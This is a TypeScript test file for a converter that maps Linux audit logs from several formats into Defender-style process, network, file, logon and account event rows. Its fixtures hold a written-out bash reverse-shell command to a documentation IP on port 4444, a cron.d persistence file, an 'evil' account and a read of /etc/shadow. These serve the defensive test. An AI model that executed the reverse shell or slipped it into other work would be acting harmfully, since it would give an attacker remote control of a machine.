import { describe, expect, it } from 'vitest';
import { converted, onlyRow } from '../convert.js';

const id = '1767607872.400:101';
const hex = (text: string) => Buffer.from(text).toString('hex').toUpperCase();
const record = (type: string, fields: string, of = id) =>
  `type=${type} msg=audit(${of}): ${fields}`;
const call = (number: number, more = '') =>
  record(
    'SYSCALL',
    `arch=c000003e syscall=${number} success=yes exit=0 a0=3 a1=241 a2=241 a3=1b6 items=2 ppid=100 pid=200 auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 comm="bash" exe="/usr/bin/bash" key="lab"${more}`,
  );
const names = '\u001dARCH=x86_64 SYSCALL=execve AUID="bob" UID="root"';
const command = 'bash -i >& /dev/tcp/192.0.2.9/4444 0>&1';

const start = [
  call(59, names),
  record('EXECVE', `argc=3 a0="bash" a1="-c" a2=${hex(command)}`),
  record('CWD', 'cwd="/root"'),
  record('PATH', 'item=0 name="/usr/bin/bash" inode=1 nametype=NORMAL'),
  record('PROCTITLE', `proctitle=${hex('bash\0-c\0cut off')}`),
  record('EOE', ''),
];
const started = {
  table: 'DeviceProcessEvents',
  ActionType: 'ProcessCreated',
  Timestamp: '2026-01-05T10:11:12.4000000Z',
  FolderPath: '/usr/bin/bash',
  FileName: 'bash',
  ProcessId: 200,
  ProcessCommandLine: `bash -c ${command}`,
  AccountName: 'root',
  LogonId: 3,
  InitiatingProcessId: 100,
};
const withHost = { ...started, DeviceName: 'web01' };

describe('a program start of the audit system, in every shape', () => {
  it.each<[string, readonly (object | string)[], object]>([
    ['audit.log', start, started],
    ['a node in front', start.map((text) => `node=web01 ${text}`), withHost],
    ['syslog', start.map((text) => `<13>Jan  5 10:11:12 web01 audispd[7]: ${text}`), withHost],
    [
      'Filebeat, of the file',
      start.map((message) => ({ '@timestamp': 'x', message, host: { hostname: 'web01' } })),
      withHost,
    ],
    [
      'an export of Splunk',
      start.map((text) => ({ preview: false, result: { _raw: text, host: 'web01' } })),
      withHost,
    ],
    [
      'ausearch --interpret',
      [
        '----',
        'type=PROCTITLE msg=audit(01/05/2026 10:11:12.400:101) : proctitle=bash -c cut off',
        'type=CWD msg=audit(01/05/2026 10:11:12.400:101) : cwd=/root',
        `type=EXECVE msg=audit(01/05/2026 10:11:12.400:101) : argc=3 a0=bash a1=-c a2=${command}`,
        'type=SYSCALL msg=audit(01/05/2026 10:11:12.400:101) : arch=x86_64 syscall=execve success=yes exit=0 a0=0x55 ppid=100 pid=200 auid=bob uid=root tty=pts0 ses=3 comm=bash exe=/usr/bin/bash key=(null)',
      ],
      started,
    ],
    [
      'LAUREL',
      [
        {
          ID: id,
          NODE: 'web01',
          SYSCALL: {
            ...{ arch: '0xc000003e', syscall: 59, success: 'yes', exit: 0, ppid: 100, pid: 200 },
            ...{ auid: 1000, uid: 0, ses: 3, comm: 'bash', exe: '/usr/bin/bash', UID: 'root' },
          },
          EXECVE: { argc: 3, ARGV: ['bash', '-c', command] },
          CWD: { cwd: '/root' },
          PATH: [{ item: 0, name: '/usr/bin/bash', nametype: 'NORMAL' }],
          PARENT_INFO: { ARGV: ['sshd'], exe: '/usr/sbin/sshd', ppid: 1 },
        },
      ],
      withHost,
    ],
    [
      'go-audit',
      [
        {
          sequence: 101,
          timestamp: '1767607872.400',
          messages: [
            { type: 1300, data: call(59).replace(/^.*?: /, '') },
            { type: 1309, data: start[1]?.replace(/^.*?: /, '') },
            { type: 1307, data: 'cwd="/root"' },
          ],
          uid_map: { '0': 'root', '1000': 'bob' },
        },
      ],
      started,
    ],
  ])('%s', (_name, records, wanted) => {
    const result = converted(records);
    expect([result.source, result.letters]).toEqual(['auditd', []]);
    expect(onlyRow(result)).toMatchObject(wanted);
  });

  it('keeps what has no column, numbers as they are', () => {
    const { AdditionalFields } = onlyRow(converted(start));
    expect(AdditionalFields).toMatchObject({
      ProcessCurrentWorkingDirectory: '/root',
      auid: '1000',
      euid: '0',
      tty: 'pts0',
      key: 'lab',
      comm: 'bash',
      syscall: '59',
      gid: '0',
    });
  });
});

describe('other records of the audit system', () => {
  const cases: readonly (readonly [string, readonly string[], object])[] = [
    [
      'a connection',
      [call(42), record('SOCKADDR', 'saddr=0200115CCB0071090000000000000000')],
      {
        table: 'DeviceNetworkEvents',
        ActionType: 'ConnectionSuccess',
        RemoteIP: '203.0.113.9',
        RemotePort: 4444,
        RemoteIPType: 'Public',
        InitiatingProcessId: 200,
        InitiatingProcessFileName: 'bash',
        AdditionalFields: expect.objectContaining({ auid: '1000', syscall: '42' }),
      },
    ],
    [
      'a connection under way',
      [
        call(42).replace('success=yes exit=0', 'success=no exit=-115'),
        record('SOCKADDR', 'saddr=0200115CCB0071090000000000000000'),
      ],
      { ActionType: 'ConnectionSuccess' },
    ],
    [
      'a connection refused',
      [
        call(42).replace('success=yes exit=0', 'success=no exit=-111'),
        record('SOCKADDR', 'saddr=0200115CCB0071090000000000000000'),
      ],
      { ActionType: 'ConnectionFailed' },
    ],
    [
      'a new file',
      [
        call(257),
        record('CWD', 'cwd="/etc"'),
        record('PATH', 'item=0 name="cron.d" nametype=PARENT'),
        record('PATH', 'item=1 name="cron.d/evil" nametype=CREATE'),
      ],
      {
        table: 'DeviceFileEvents',
        ActionType: 'FileCreated',
        FolderPath: '/etc/cron.d/evil',
        FileName: 'evil',
      },
    ],
    [
      'a failed login',
      [
        record(
          'USER_AUTH',
          `pid=1 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication acct="root" exe="/usr/sbin/sshd" hostname=203.0.113.9 addr=203.0.113.9 terminal=ssh res=failed'`,
        ),
      ],
      {
        table: 'DeviceLogonEvents',
        ActionType: 'LogonFailed',
        AccountName: 'root',
        RemoteIP: '203.0.113.9',
        InitiatingProcessFileName: 'sshd',
        AdditionalFields: expect.objectContaining({ auid: '4294967295' }),
      },
    ],
    [
      'a new account',
      [
        record(
          'ADD_USER',
          `pid=1 uid=0 auid=1000 ses=5 msg='op=add-user acct="evil" exe="/usr/sbin/useradd" hostname=? addr=? res=success'`,
        ),
      ],
      { table: 'DeviceEvents', ActionType: 'UserAccountCreated', AccountName: 'evil' },
    ],
  ];

  it.each(cases)('%s', (_name, records, wanted) => {
    expect(onlyRow(converted(records))).toMatchObject(wanted);
  });

  it('opening a file to read it, and a search along PATH, are no rows', () => {
    const reading = [
      call(257).replace('a2=241', 'a2=0'),
      record('PATH', 'item=0 name="/etc/shadow" nametype=NORMAL'),
    ];
    const search = [call(59).replace('success=yes exit=0', 'success=no exit=-2')];
    for (const records of [reading, search]) expect(converted(records).rows).toEqual({});
  });
});
